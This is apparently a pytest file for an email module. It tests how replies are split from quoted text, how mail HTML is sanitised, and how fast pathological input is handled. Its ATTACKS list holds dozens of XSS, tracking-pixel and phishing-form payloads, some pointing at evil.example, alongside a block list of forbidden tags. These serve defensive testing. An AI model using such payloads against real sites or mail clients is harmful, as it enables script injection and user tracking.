"""What of a mail is new, and its HTML made harmless; and nothing it may hold takes long."""

import pytest

from careops.inbox.rules.mailtext import fold, harmless, plain, storable
from tests.spending import at_most

GMAIL = "Yes please, 3pm.\n\nThanks,\nCleo\n\nOn Mon, Nov 16, 2026 at 10:12 AM Salon Ana <hello@salon.example>\nwrote:\n\n> Hello Cleo\n"
OUTLOOK = "Can we move it?\n\nBest regards\nCleo\n\nFrom: Salon Ana <hello@salon.example>\nSent: Monday, November 16, 2026 10:12 AM\n"
OUTLOOK += "To: Cleo\nSubject: Your visit\n\nHello Cleo"


@pytest.mark.parametrize(
    ("text", "new"),
    [
        (GMAIL, "Yes please, 3pm.\n\nThanks,\nCleo"),
        (GMAIL.replace("\n", "\r\n"), "Yes please, 3pm.\n\nThanks,\nCleo"),
        (OUTLOOK, "Can we move it?\n\nBest regards\nCleo"),
        ("Ja, gerne.\n\nAm Mo., 16. Nov. 2026 um 10:12 Uhr schrieb Salon Ana <a@salon.example>:\n\n> Hallo\n", "Ja, gerne."),
        ("Sí.\n\nEl lun, 16 nov 2026 a las 10:12, Salon Ana (<a@salon.example>) escribió:\n\n> Hola\n", "Sí."),
        ("Oui\n\nLe lun. 16 nov. 2026 à 10:12, Salon Ana <a@salon.example> a écrit :\n\n> Bonjour\n", "Oui"),
        ("Running late\n\nSent from my iPhone\n\n> On Nov 16, 2026, at 10:12, Ana <a@b.example> wrote:\n> \n> Hi\n", "Running late"),
        ("Bin spät dran\n\nVon meinem iPhone gesendet\n", "Bin spät dran"),
        ("On Mon, Nov 16, 2026 at 10:12 AM Ana <a@salon.example> wrote:\n> Is 3pm good?\n\nYes it is.\n", "Yes it is."),
        ("Sure.\n\n##- Please reply above this line -##\nYour visit\nblah", "Sure."),
        ("Passt.\n\n--- Bitte oberhalb dieser Zeile antworten ---\nIhr Termin", "Passt."),
        ("Hello there\n-- \nCleo Marsh\n+351", "Hello there"),
        ("Thanks\nplease also book Ben on Friday\nBest\nCleo", "Thanks\nplease also book Ben on Friday\nBest\nCleo"),
        ("I want:\n- a cut\n- a wash\n  and a beard trim", "I want:\n- a cut\n- a wash\n  and a beard trim"),
        ("I will come\nOn Monday I have time and he wrote: nothing\nok", "I will come\nOn Monday I have time and he wrote: nothing\nok"),
        ("> all of it\n> is quoted", "> all of it\n> is quoted"),
        ("---------- Forwarded message ---------\nFrom: X <x@y.example>\nDate: Mon\nSubject: Hi\nTo: me\n\nits words", None),
        ("", ""),
    ],
)
def test_only_what_is_new_is_shown_and_nothing_is_lost(text: str, new: str | None) -> None:
    fresh, quoted = fold(text)
    assert fresh == (text.strip() if new is None else new)
    said = "".join(storable(text).split())
    assert sorted("".join((fresh + quoted).split())) == sorted(said)


def test_a_line_longer_than_any_screen_stays_one_line() -> None:
    line = "word " * 800
    assert fold(f"{line}\n\n> old") == (line.strip(), "> old")


LONG = {
    "one line of On": "On " * 33_000,
    "lines of blanks": " \n" * 50_000,
    "ten thousand quoted lines": "hi\n" + "> a quoted line of somebody\n" * 10_000,
    "quoted ever deeper": "".join(">" * depth + " x\n" for depth in range(400)),
    "headings only": "On Mon, Jan 1, 2024 at 10:00 AM X <a@b.example> wrote:\n" * 2000,
    "narrow lines": "On\n" * 30_000,
    "underscores": "_" * 100_000,
    "sent from": "Sent from my " * 8000,
    "nearly a marker": ("reply " * 20 + "\n") * 1000,
    "hyphens": "- \n" * 50_000,
    "no-break blanks": "\u00a0\n" * 50_000,
    "outlook blocks": "From: a@b.example\nSent: Monday\nTo: c\nSubject: d\n\nhi\n" * 2000,
}


@pytest.mark.parametrize("kind", LONG)
def test_no_text_keeps_us_busy(kind: str) -> None:
    with at_most(2):
        fold(LONG[kind])


# ── HTML ─────────────────────────────────────────────────

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://track.example/pixel.gif' width=1 height=1>",
    "<picture><source srcset='https://track.example/a'></picture>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(2)>x</a>",
    "<div style='background:url(https://track.example/a)'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=https://track.example/a autoplay onplay=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input type=image src=https://track.example/a>",
    "<table background=https://track.example/a><td background=https://track.example/b>x</td></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p id=app class=fixed name=x>clobber</p>",
    "<form id=x><input id=attributes></form>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<a href="https://ok.example" target=_self>x</a>',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<title></title><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<portal src=https://evil.example>",
    "<bgsound src=https://track.example/a>",
    "<frameset onload=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a ping=https://track.example href=https://ok.example>x</a>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<td colspan='1\" onmouseover=alert(1)'>x</td>",
    "<a href='https://ok.example\" onclick=alert(1) x=\"'>x</a>",
    "<img src='cid:part1' srcset='https://track.example/a 1x'>",
    "<font face=x color=red onload=alert(1)>x</font>",
]
NEVER = (
    "<script",
    "<img",
    "<svg",
    "<style",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<link",
    "<meta",
    "<base",
    "<video",
    "<audio",
)
NEVER += ("style=", "src=", "srcset=", "background=", " id=", " class=", " name=", "ping=", "cite=", 'href="java', 'href="data', 'href="vb')


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_html_of_a_mail_runs_loads_or_paints_over(attack: str) -> None:
    clean = harmless(attack).lower()
    inside_tags = " ".join(part.partition(">")[0].join(("<", "")) for part in clean.split("<")[1:])
    assert not [bad for bad in NEVER if bad in inside_tags]
    outside_values = "".join(part for at, part in enumerate(inside_tags.split('"')) if at % 2 == 0)
    assert " on" not in outside_values
    assert harmless(clean) == clean


def test_what_is_harmless_stays_and_links_leave_without_a_trace() -> None:
    clean = harmless(
        "<p>Hi <b>you</b><br><a href='https://ok.example/?a=1&amp;b=2'>there</a></p><table><tr><td colspan=2>x</td></tr></table>"
    )
    assert (
        '<p>Hi <b>you</b><br><a href="https://ok.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">there</a></p>'
        in clean
    )
    assert '<td colspan="2">x</td>' in clean


def test_a_page_without_text_is_read_aloud() -> None:
    page = "<style>p{}</style><p>Hello <b>you</b><br>next</p><ul><li>one<li>two</ul><blockquote>old<br>er</blockquote><script>1</script>"
    assert fold(plain(page)) == ("Hello you\nnext\n\none\ntwo", "> old\n> er")


DEEP = {
    "div": "<div>" * 200_000,
    "quotes": "<blockquote>" * 100_000,
    "brackets": "<" * 500_000,
    "entities": "&amp" * 200_000,
    "comments": "<!--" * 100_000,
    "tables": "<table><tr><td>x" * 30_000,
    "attributes": "<p " + "a=b " * 200_000 + ">",
    "one attribute": "<a href='" + "x" * 400_000,
    "formatting": "<b><i><u><div>" * 50_000,
}


@pytest.mark.parametrize("kind", DEEP)
def test_no_html_keeps_us_busy(kind: str) -> None:
    with at_most(2):
        plain(DEEP[kind])
